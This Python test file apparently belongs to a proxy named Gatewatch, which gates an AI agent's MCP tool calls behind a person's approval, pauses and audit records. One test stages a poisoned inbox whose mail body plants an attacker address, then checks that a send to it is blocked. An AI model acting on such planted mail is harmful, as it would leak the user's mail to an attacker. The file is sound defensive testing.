"""What a running proxy tells the app, and what it learns from the app's switches in the DB."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from proxy.store.schema import connect
from tests.relay_pipes import wait_for
from tests.support import GATEWATCH, child_env, upstream

PLANTED = "attacker@evil.example"  # only ever appears in the poisoned mail's body


@asynccontextmanager
async def mail(db: Path, tmp_path: Path) -> AsyncIterator[Any]:
    from mcp import Client, StdioServerParameters

    params = StdioServerParameters(
        command=GATEWATCH[0],
        args=[*GATEWATCH[1:], "run", "--name", "mail", "--db", str(db), "--",
              *upstream("mail_server")],
        env=child_env({"MAIL_OUTBOX": str(tmp_path / "outbox.jsonl")}),
    )
    async with Client(params, mode="legacy", read_timeout_seconds=60) as client:
        await client.list_tools()
        yield client


async def test_a_denied_call_reaches_the_app_as_a_notice(db_file: Path, tmp_path: Path) -> None:
    from proxy.ipc.server import SocketServer

    notices: list[dict[str, Any]] = []

    async def decide(message: dict[str, Any]) -> dict[str, Any]:
        return {"allow": False, "remember": "once", "expires_in_s": None}

    def on_event(kind: str, message: dict[str, Any]) -> None:
        if kind == "notice":
            notices.append(message)

    server = SocketServer(decide, on_event=on_event)
    await server.start()
    try:
        async with mail(db_file, tmp_path) as client:
            await client.call_tool("read_inbox", {})
            denied = await client.call_tool(
                "send_email", {"to": [PLANTED], "subject": "x", "body": "y"}
            )
            assert denied.is_error
            # The poisoned inbox itself may be withheld first (its own notice): wait for the send.
            await wait_for(lambda: [n for n in notices if n["tool"] == "send_email"],
                           what="a notice for the denied send")
    finally:
        await server.close()
    notice = next(n for n in notices if n["tool"] == "send_email")
    assert notice["server"] == "mail" and notice["tool"] == "send_email"
    assert notice["verdict"] == "deny" and PLANTED in notice["reason"]
    assert not (tmp_path / "outbox.jsonl").exists()


async def test_pause_all_set_while_the_app_was_closed_holds_at_start(
    db_file: Path, tmp_path: Path
) -> None:
    conn = connect(db_file)
    conn.execute("INSERT INTO server_state (server, paused, updated_at) VALUES ('*', 1, ?)",
                 (time.time(),))
    conn.close()
    async with mail(db_file, tmp_path) as client:
        result = await client.call_tool("read_inbox", {})
    assert result.is_error
    assert "paused" in " ".join(getattr(c, "text", "") for c in result.content)


@asynccontextmanager
async def approver(answer: dict[str, Any]) -> AsyncIterator[list[dict[str, Any]]]:
    """A stand-in for the tray app that answers every question the same way."""
    from proxy.ipc.server import SocketServer

    asked: list[dict[str, Any]] = []

    async def decide(message: dict[str, Any]) -> dict[str, Any]:
        asked.append(message)
        return answer

    server = SocketServer(decide)
    await server.start()
    try:
        yield asked
    finally:
        await server.close()


UNSEEN = "new@random.example"  # never in any output: the sink gate asks


def text_of(result: Any) -> str:
    return " ".join(getattr(c, "text", "") for c in result.content)


def outcomes(db: Path) -> list[tuple[Any, ...]]:
    conn = connect(db)
    try:
        return [tuple(r) for r in conn.execute(
            "SELECT verdict, outcome, outcome_by FROM events WHERE call_row = 1 "
            "AND tool = 'send_email' ORDER BY id")]
    finally:
        conn.close()


async def test_a_popup_timeout_is_audited_as_a_timeout_not_a_human_deny(
    db_file: Path, tmp_path: Path
) -> None:
    answer = {"allow": False, "remember": "once", "timed_out": True}
    async with approver(answer) as asked, mail(db_file, tmp_path) as client:
        result = await client.call_tool("send_email", {"to": [UNSEEN], "subject": "s",
                                                       "body": "b"})
    assert result.is_error and asked
    assert "nobody answered" in text_of(result) and "denied in the Gatewatch app" not in \
        text_of(result)
    await wait_for(lambda: outcomes(db_file), what="the call's outcome")
    assert outcomes(db_file) == [("ask", "deny", "timeout")]


async def test_the_agent_reads_why_the_person_denied(db_file: Path, tmp_path: Path) -> None:
    answer = {"allow": False, "remember": "once",
              "agent_message": "use the\nteam list instead"}
    async with approver(answer), mail(db_file, tmp_path) as client:
        result = await client.call_tool("send_email", {"to": [UNSEEN], "subject": "s",
                                                       "body": "b"})
    text = text_of(result)
    assert result.is_error and text.startswith("[gatewatch blocked]")
    assert "The user says: use the team list instead" in text  # one line, the person's words
    assert not (tmp_path / "outbox.jsonl").exists()


async def test_always_deny_stops_asking_about_that_destination(db_file: Path,
                                                               tmp_path: Path) -> None:
    answer = {"allow": False, "remember": "forever"}
    async with approver(answer) as asked, mail(db_file, tmp_path) as client:
        send = {"to": [UNSEEN], "subject": "s", "body": "b"}
        first = await client.call_tool("send_email", send)
        second = await client.call_tool("send_email", {**send, "body": "other"})
        third = await client.call_tool("send_email", {**send, "to": ["Other@random.example"]})
    assert first.is_error and second.is_error and third.is_error
    assert len(asked) == 2  # the second call was not asked about; another address was
    assert "always deny" in text_of(second)
    # Merging in the app needs a digest of the full arguments, not the preview.
    assert asked[0]["arguments_digest"] != asked[1]["arguments_digest"]
    await wait_for(lambda: len(outcomes(db_file)) == 3, what="three outcomes")
    assert [o[2] for o in outcomes(db_file)] == ["app", "trust", "app"]
